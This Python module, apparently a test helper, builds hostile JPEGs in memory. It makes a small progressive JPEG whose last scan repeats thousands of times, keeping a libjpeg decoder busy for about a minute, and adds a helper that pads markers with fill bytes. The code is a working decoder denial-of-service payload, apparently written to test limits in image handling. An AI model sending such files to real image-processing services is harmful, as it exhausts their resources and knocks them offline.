"""Hostile JPEGs built in memory: cheap to send, costly to decode (issue 11, item 2).

:func:`repeated_scans` is the attack: a small progressive JPEG whose last scan is repeated
thousands of times. The image is one flat colour, so each repeat is a dozen bytes; libjpeg still
walks every block of the image for each one (a 20,000-scan 2048x2048 file kept a decoder thread
busy for about a minute).
"""

from __future__ import annotations

import functools
from io import BytesIO

from PIL import Image


@functools.cache
def progressive(size: tuple[int, int] = (2048, 2048)) -> bytes:
    """A flat-coloured progressive JPEG from Pillow (libjpeg's 10-scan progression)."""
    buffer = BytesIO()
    Image.new("RGB", size, (120, 80, 200)).save(buffer, "JPEG", progressive=True, quality=90)
    return buffer.getvalue()


def last_scan(data: bytes) -> tuple[int, int]:
    """The (start, end) of the last scan of ``data``: its SOS segment and entropy-coded data."""
    pos, last = 2, (0, 0)
    while data[pos + 1] != 0xD9:  # every segment of Pillow's output starts at a 0xFF
        length = int.from_bytes(data[pos + 2 : pos + 4], "big")
        end = pos + 2 + length
        if data[pos + 1] == 0xDA:
            while data[end] != 0xFF or data[end + 1] == 0 or 0xD0 <= data[end + 1] <= 0xD7:
                end += 1
            last = (pos, end)
        pos = end
    return last


@functools.cache
def repeated_scans(repeats: int = 20_000, size: tuple[int, int] = (2048, 2048)) -> bytes:
    """:func:`progressive` with its last scan there ``repeats`` more times."""
    data = progressive(size)
    start, end = last_scan(data)
    return data[:end] + data[start:end] * repeats + data[end:]


def with_fill_bytes(data: bytes, count: int, before: int = 0xDA) -> bytes:
    """``data`` with ``count`` fill bytes (0xFF) before its first ``before`` marker."""
    at = data.index(bytes([0xFF, before]))
    return data[:at] + b"\xff" * count + data[at:]
